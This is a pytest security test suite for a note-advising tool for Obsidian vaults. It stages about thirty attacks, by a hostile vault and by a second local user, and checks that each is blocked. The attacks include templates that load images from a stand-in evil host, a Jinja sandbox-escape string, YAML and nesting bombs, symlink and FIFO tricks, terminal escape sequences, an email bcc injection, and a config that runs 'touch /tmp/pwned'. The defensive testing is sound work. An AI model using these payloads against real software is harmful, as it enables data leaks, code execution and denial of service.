"""What a hostile vault, and a second user of the machine, try; and what stops each of them.

The first table needs a vault alone. The second is run as two users: what the other one does, a
process of theirs does (user 65534); the program runs as the user who runs the tests.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from vault_advise.adapters import compiled, config, state, trusted
from vault_advise.core.errors import NoteError, UsageError
from vault_advise.vault import trust as trusting

from ..contract.helpers import Cli, Result, interview, new_vault, put, snapshot, trust
from ..platforms import hands

NOTE = "Interviews/Orbital.md"
EVIL = "https://evil.example/"
TEMPLATE = ".vault-advise/templates/thank-you.md.j2"
RULES = ".vault-advise/rules.toml"
CONFIG = ".vault-advise/config.toml"
DAY = ("--today", "2026-11-20")


@pytest.fixture
def place() -> Iterator[Path]:
    """A folder that other users may enter."""
    folder = Path(tempfile.mkdtemp(prefix="attack-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


@pytest.fixture(autouse=True)
def home(place: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = place / "home"
    for name in ("state", "cache", "config"):
        monkeypatch.setenv(f"XDG_{name.upper()}_HOME", str(home / name))
    for name in ("HOME", "USERPROFILE"):
        monkeypatch.setenv(name, str(home))
    home.mkdir()
    return home


@pytest.fixture
def vault(place: Path) -> Path:
    vault = new_vault(place / "vault")
    put(vault, NOTE, interview())
    return vault


def cli(*args: str, cwd: Path | None = None) -> Result:
    """The program, with the same home as this process."""
    return Cli(Path(os.environ["HOME"]))(*args, cwd=cwd)


def run(vault: Path, *more: str) -> tuple[int, str]:
    """Exit code and everything said; fails on a traceback, and when it takes long."""
    began = time.monotonic()
    done = cli("run", str(vault), *DAY, *more)
    said = done.out + done.err
    assert "Traceback" not in said, said
    assert time.monotonic() - began < 60
    return done.code, said


def advised(vault: Path) -> str:
    code, said = run(vault)
    assert code == 0, said
    return (vault / NOTE).read_text("utf-8")


def refused(vault: Path, *words: str) -> None:
    """Exit 3 with a remedy, and no note touched."""
    before = (vault / NOTE).read_bytes()
    code, said = run(vault)
    assert code == 3, said
    assert all(word in said for word in words), said
    assert (vault / NOTE).read_bytes() == before


# --- a hostile vault -----------------------------------------------------------------------------


def a_template_phones_home(vault: Path) -> None:
    put(vault, TEMPLATE, f"![]({EVIL}{{{{ company }}}})")
    assert "evil" not in advised(vault)


def a_trusted_template_is_swapped(vault: Path) -> None:
    put(vault, TEMPLATE, "Hi\n")
    trust(vault)
    put(vault, TEMPLATE, f"![]({EVIL}{{{{ company }}}})")
    assert "evil" not in advised(vault)


def a_vault_brings_its_own_trust(vault: Path) -> None:
    put(vault, TEMPLATE, f"Hi {EVIL}\n")
    own = trusting.own_templates(vault)
    for folder in (vault, vault / ".vault-advise"):
        put(folder, trusted.NAME, trusted.fingerprint(own))
    assert "evil" not in advised(vault)


def a_trusted_block_embeds(vault: Path) -> None:
    put(vault, ".vault-advise/templates/block.md.j2", f"> [!todo] x\n> ![]({EVIL}) <img src=x>\n")
    trust(vault)
    assert not re.search(r"!\[\]|<img", advised(vault))


def a_trusted_template_fills_the_memory(vault: Path) -> None:
    loop = "{% set ns = namespace(x='x' * 999) %}{% for i in range(999) %}"
    put(vault, TEMPLATE, loop + "{% set ns.x = ns.x ~ ns.x %}{% endfor %}")
    trust(vault)
    code, said = run(vault)
    assert code in (3, 4) and "thank-you" in said


def a_trusted_template_reaches_for_python(vault: Path) -> None:
    put(vault, TEMPLATE, "{{ ''.__class__.__mro__[1].__subclasses__() }}")
    trust(vault)
    code, said = run(vault)
    assert code in (3, 4) and "thank-you" in said


def a_template_is_a_link(vault: Path) -> None:
    secret = put(vault.parent, "secret.txt", "SECRET")
    (vault / TEMPLATE).parent.mkdir(parents=True)
    hands.link(vault / TEMPLATE, secret)
    assert "SECRET" not in advised(vault)


def rules_embed(vault: Path) -> None:
    put(
        vault,
        RULES,
        '[[rules]]\nid = "mine"\nrow = 0\naction = "connect"\npriority = 99\nverdict = "avoid"\n'
        f'because = "No. ![]({EVIL}) <img src=x> ^va-x"\nsource = "me"\n'
        'when = { stage = ["interviewed"] }\n',
    )
    text = advised(vault)
    assert "No." in text
    assert not re.search(r"!\[\]|<img|\^va-x", text)


def rules_ask_by_format(vault: Path) -> None:
    put(
        vault,
        RULES,
        '[[rules]]\nid = "mine"\nrow = 0\naction = "fix-note"\npriority = 99\nverdict = "do"\n'
        'because = "b"\nask = "Who {word.__class__} {0} {word:>99999999}?"\nsource = "me"\n'
        'edge = "x"\nwhen = { stage = ["interviewed"] }\n',
    )
    code, said = run(vault)
    assert code in (0, 3), said
    assert len((vault / NOTE).read_bytes()) < 20_000
    assert "<class" not in (vault / NOTE).read_text("utf-8")


def settings_are_a_pipe(vault: Path) -> None:
    (vault / ".vault-advise").mkdir()
    os.mkfifo(vault / CONFIG)
    refused(vault, "config.toml", "regular file")


def settings_are_a_device(vault: Path) -> None:
    (vault / ".vault-advise").mkdir()
    (vault / CONFIG).symlink_to("/dev/zero")
    refused(vault, "config.toml", "link")


def settings_nest_without_end(vault: Path) -> None:
    put(vault, CONFIG, "x = " + "[" * 5000 + "]" * 5000)
    refused(vault, "config.toml", "nested")


def rules_nest_without_end(vault: Path) -> None:
    put(vault, RULES, "a." * 400_000 + "a = 1")
    refused(vault, "rules.toml", "nested")


def settings_are_huge(vault: Path) -> None:
    put(vault, CONFIG, "#" * 5_000_000)
    refused(vault, "config.toml", "1 MB")


def the_settings_folder_leads_away(vault: Path) -> None:
    away = vault.parent / "away"
    put(away, "config.toml", 'policy = "proactive"\n')
    hands.link_folder(vault / ".vault-advise", away)
    refused(vault, "link")
    done = cli("init", str(vault), "--yes", *DAY)
    assert done.code in (2, 3) and "Traceback" not in done.err
    assert sorted(os.listdir(away)) == ["config.toml"]


def init_writes_through_a_link(vault: Path) -> None:
    away = vault.parent / "away"
    away.mkdir()
    hands.link_folder(vault / "Templates", away)
    done = cli("init", str(vault), "--yes", *DAY)
    assert "Traceback" not in done.err
    assert os.listdir(away) == []


def obsidians_settings_are_a_pipe(vault: Path) -> None:
    os.mkfifo(vault / ".obsidian" / "templates.json")
    refused(vault, "templates.json", "regular file")


def obsidians_settings_nest(vault: Path) -> None:
    put(vault, ".obsidian/templates.json", "[" * 100_000)
    put(vault, ".obsidian/workspace.json", "[" * 100_000)
    advised(vault)


def a_note_is_a_link_out(vault: Path) -> None:
    target = put(vault.parent, "Outside.md", interview())
    hands.link(vault / "Interviews" / "Link.md", target)
    before = target.read_bytes()
    advised(vault)
    assert target.read_bytes() == before


def a_folder_is_a_link_out(vault: Path) -> None:
    target = put(vault.parent, "away/Outside.md", interview())
    hands.link_folder(vault / "Away", vault.parent / "away")
    before = target.read_bytes()
    advised(vault)
    assert target.read_bytes() == before


def a_name_brings_a_task(vault: Path) -> None:
    name = "Dana ✅ 2026-01-01 📅 1999-01-01 ^va-connection-note-x (due:: 1999-01-01)"
    put(vault, NOTE, interview(person=json.dumps(name, ensure_ascii=False)))
    text = re.sub(r"(?ms)^```text.*?^```", "", advised(vault).partition("%% vault-advise:begin")[2])
    assert not re.search(r"✅|1999-01-01 \^|📅 1999|due::|\s\^va-connection-note-x", text), text


def a_name_hides_letters(vault: Path) -> None:
    put(vault, NOTE, interview(person="Da\u200c\u115f\u202ena\U000e0101 Whit\u2800field"))
    assert not re.search(
        "[\u200c\u115f\u202e\U000e0101\u2800]", advised(vault).split("%% vault")[1]
    )


def a_name_borrows_letters(vault: Path) -> None:
    put(vault, NOTE, interview(person="D\u0430na Whitfield"))
    assert "mixes Cyrillic and Latin" in cli("doctor", str(vault), *DAY).out


def a_name_breaks_out(vault: Path) -> None:
    put(vault, NOTE, interview(person="'%% vault-advise:end advice %% ![](x) <img> `=x`'"))
    text = advised(vault)
    text = text.partition("---\n#")[2]
    assert text.count("%% vault-advise:end advice") == 1
    assert not re.search(r"(?<!\\)!\[\]\(x|(?<!\\)<img", text.split("%% vault")[1])


def a_name_talks_to_the_terminal(vault: Path) -> None:
    put(vault, "Interviews/\x1b]0;pwned\x07\x9b2J.md", interview())
    put(vault, "Interviews/Two.md", interview(body="\n\x1b[2J\x9b1m\n"))
    for more in ((), ("--diff",), ("--json",), ("-v",), ("--note", "\x1b[2J.md")):
        _, said = run(vault, *more)
        assert not re.search("[\x1b\x9b\x07]", said), more
    done = cli("explain", "\x1b]0;x\x07", cwd=vault)
    assert "\x1b" not in done.out + done.err


def a_draft_names_a_recipient_list(vault: Path) -> None:
    put(vault, NOTE, interview(person="{name: Dana W, email: 'a@b.org?bcc=all@evil.example'}"))
    assert "bcc=all" not in advised(vault).partition("%% vault-advise")[2]


def a_note_burns_time(vault: Path) -> None:
    for number, text in enumerate(("@" * 3000, "[[" * 3000, "(" * 6000, "a," * 4000)):
        put(vault, f"Interviews/{number}.md", interview(person=f'"{text}"'))
    put(vault, "Interviews/h.md", interview(body="\n## " + " " * 10_000 + "x\n" * 3))
    put(vault, "Interviews/t.md", interview(body="\n## Takeaways\n- " + "![[" * 30_000))
    began = time.monotonic()
    run(vault)
    assert time.monotonic() - began < 30
    assert "vault-advise:begin" in (vault / NOTE).read_text("utf-8")


def a_yaml_bomb(vault: Path) -> None:
    bomb = "a: &a [x,x,x]\n" + "".join(
        f"{b}: &{b} [*{a},*{a},*{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    put(vault, "Interviews/Bomb.md", f"---\nstage: interviewed\ncompany: X\n{bomb}---\n")
    run(vault)
    assert "vault-advise:begin" in (vault / NOTE).read_text("utf-8")


def settings_run_a_command(vault: Path) -> None:
    put(vault, CONFIG, '[drafts]\nwriter = ["touch", "/tmp/pwned"]\n')
    code, _ = run(vault)
    assert code in (0, 3)
    assert not Path("/tmp/pwned").exists()


VAULT_ATTACKS: dict[str, tuple[Callable[[Path], None], str]] = {
    "remote picture by template": (a_template_phones_home, "templates count once trusted"),
    "trusted template swapped": (a_trusted_template_is_swapped, "trust is of the very text"),
    "a vault that trusts itself": (a_vault_brings_its_own_trust, "trust lies outside the vault"),
    "embeds by a trusted block": (a_trusted_block_embeds, "output made harmless"),
    "memory by a template": (a_trusted_template_fills_the_memory, "every value is weighed"),
    "Python by a template": (a_trusted_template_reaches_for_python, "sandbox, no underscores"),
    "template as a link": (a_template_is_a_link, "opened without following"),
    "remote picture by rules": (rules_embed, "rules' words made harmless"),
    "format string in rules": (rules_ask_by_format, "known names replaced, no format"),
    "settings as a pipe": (settings_are_a_pipe, "one reader: regular files"),
    "settings as /dev/zero": (settings_are_a_device, "one reader: no links"),
    "settings nested": (settings_nest_without_end, "one reader: depth"),
    "rules nested by a dotted key": (rules_nest_without_end, "one reader: depth, before TOML"),
    "settings of 5 MB": (settings_are_huge, "one reader: size"),
    "settings folder as a link": (the_settings_folder_leads_away, "no link beneath the vault"),
    "init through a link": (init_writes_through_a_link, "new files placed by descriptor"),
    "Obsidian's settings as a pipe": (obsidians_settings_are_a_pipe, "one reader"),
    "Obsidian's settings nested": (obsidians_settings_nest, "one reader: depth"),
    "note as a link": (a_note_is_a_link_out, "links are no notes"),
    "folder as a link": (a_folder_is_a_link_out, "folders opened without following"),
    "a name with a task's signs": (a_name_brings_a_task, "safe_text.in_markdown"),
    "a name with unseen letters": (a_name_hides_letters, "safe_text.one_line"),
    "a name with borrowed letters": (a_name_borrows_letters, "doctor remarks on it"),
    "a name that ends the region": (a_name_breaks_out, "safe_text.in_markdown"),
    "escape sequences in names": (a_name_talks_to_the_terminal, "in_message, in_lines"),
    "recipients in an address": (a_draft_names_a_recipient_list, "strict address"),
    "notes that burn time": (a_note_burns_time, "linear patterns, time limit per note"),
    "YAML bomb": (a_yaml_bomb, "aliases refused"),
    "a command in settings": (settings_run_a_command, "no such setting for a vault"),
}


POSIX = pytest.mark.not_on("windows", because="it has no pipes and devices among files")
ODD_FILES = (settings_are_a_pipe, settings_are_a_device, obsidians_settings_are_a_pipe)


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(name, marks=POSIX if attack in ODD_FILES else ())
        for name, (attack, _) in VAULT_ATTACKS.items()
    ],
)
def test_a_hostile_vault(vault: Path, name: str) -> None:
    attack, stopped_by = VAULT_ATTACKS[name]
    assert stopped_by
    outside = snapshot(Path("/etc/ssh")) if Path("/etc/ssh").is_dir() else {}
    attack(vault)
    assert (snapshot(Path("/etc/ssh")) if outside else {}) == outside


# --- a second user -------------------------------------------------------------------------------


def as_the_other(act: Callable[[], None]) -> None:
    """Done by a process of user 65534; fails when they may not."""
    child = os.fork()
    if child == 0:
        try:
            os.setgroups([])
            os.setgid(65534)
            os.setuid(65534)
            os.umask(0)
            act()
        except BaseException as error:
            print(error, file=sys.stderr)
            os._exit(1)
        os._exit(0)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


def shared(place: Path) -> Path:
    """A folder like /tmp."""
    folder = place / "tmp"
    folder.mkdir()
    folder.chmod(0o1777)
    return folder


def plants_a_cache(place: Path, patch: pytest.MonkeyPatch) -> None:
    tmp = shared(place)
    patch.setenv("XDG_CACHE_HOME", str(tmp / "cache"))
    folder = compiled.folder()
    as_the_other(lambda: folder.mkdir(parents=True))
    assert compiled.cache() is None


def plants_a_file_in_an_open_cache(place: Path, patch: pytest.MonkeyPatch) -> None:
    patch.setenv("XDG_CACHE_HOME", str(place / "cache"))
    folder = compiled.folder()
    folder.mkdir(parents=True)
    folder.chmod(0o777)
    as_the_other(lambda: folder.joinpath("x").write_bytes(b"code") and None)
    assert compiled.cache() is None


def waits_in_a_home_that_is_not_ours(place: Path, patch: pytest.MonkeyPatch) -> None:
    tmp = shared(place)
    as_the_other(lambda: (tmp / "home").mkdir())
    patch.setenv("XDG_CACHE_HOME", str(tmp / "home" / ".cache"))
    assert compiled.cache() is None
    assert not (tmp / "home" / ".cache").exists()


def plants_a_state_folder(place: Path, patch: pytest.MonkeyPatch) -> None:
    tmp = shared(place)
    patch.setenv("XDG_STATE_HOME", str(tmp / "state"))
    vault = new_vault(place / "vault")
    folder = state.folder(vault)
    as_the_other(lambda: folder.mkdir(parents=True))
    with pytest.raises(NoteError, match="belongs to another user"):
        state.made(state.folder(vault))


def trusts_for_us(place: Path, patch: pytest.MonkeyPatch) -> None:
    tmp = shared(place)
    patch.setenv("XDG_STATE_HOME", str(tmp / "state"))
    vault = new_vault(place / "vault")
    put(vault, TEMPLATE, f"Hi {EVIL}\n")
    own = trusting.own_templates(vault)

    def plant() -> None:
        folder = state.folder(vault)
        folder.mkdir(parents=True)
        trusted.remember(folder, own)

    as_the_other(plant)
    assert trusting.untrusted(vault)


def puts_a_vault_above(place: Path, patch: pytest.MonkeyPatch) -> None:
    tmp = shared(place)
    as_the_other(lambda: (tmp / ".vault-advise").mkdir())
    (tmp / "work").mkdir()
    patch.chdir(tmp / "work")
    with pytest.raises(UsageError, match="belongs to another user"):
        config.find_vault(tmp / "work")
    done = cli("run", cwd=tmp / "work")
    assert done.code == 2 and "another user" in done.err


def puts_a_vault_above_a_note(place: Path, _: pytest.MonkeyPatch) -> None:
    tmp = shared(place)
    as_the_other(lambda: (tmp / ".obsidian").mkdir())
    put(tmp, "work/Note.md", interview())
    done = cli("explain", str(tmp / "work" / "Note.md"))
    assert done.code == 2 and "another user" in done.err


def links_the_cache_to_theirs(place: Path, patch: pytest.MonkeyPatch) -> None:
    tmp = shared(place)
    ours = place / "ours"
    ours.mkdir()
    patch.setenv("XDG_CACHE_HOME", str(tmp / "cache"))
    as_the_other(lambda: (tmp / "cache").symlink_to(ours))
    assert compiled.cache() is None
    assert os.listdir(ours) == []


def reads_our_copies(place: Path, _: pytest.MonkeyPatch) -> None:
    vault = new_vault(place / "vault")
    put(vault, NOTE, interview())
    (place / "home" / "state").mkdir()
    before = os.umask(0)
    try:
        advised(vault)
    finally:
        os.umask(before)
    folder = state.folder(vault)

    def read() -> None:
        with pytest.raises(PermissionError):
            os.listdir(folder)

    as_the_other(read)


USER_ATTACKS: dict[str, tuple[Callable[[Path, pytest.MonkeyPatch], None], str]] = {
    "compiled templates planted": (plants_a_cache, "owner of folder and parents"),
    "code in a cache open to all": (plants_a_file_in_an_open_cache, "nobody else may write"),
    "a cache in another's home": (waits_in_a_home_that_is_not_ours, "owner of every parent"),
    "a state folder planted": (plants_a_state_folder, "owner; nothing is written then"),
    "trust planted": (trusts_for_us, "owner of the state folder"),
    "a vault planted above": (puts_a_vault_above, "a vault found upward is this user's"),
    "a vault planted above a note": (puts_a_vault_above_a_note, "the same"),
    "the cache as their link": (links_the_cache_to_theirs, "owner of links, too"),
    "reading our copies": (reads_our_copies, "made 0700, every parent"),
}


@pytest.mark.not_on("macos", "windows", because="Linux alone is tested as root")
@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="needs two users")
@pytest.mark.parametrize("name", USER_ATTACKS)
def test_a_second_user(place: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    attack, stopped_by = USER_ATTACKS[name]
    assert stopped_by
    attack(place, monkeypatch)


def test_there_are_thirty() -> None:
    assert len(VAULT_ATTACKS) + len(USER_ATTACKS) >= 30
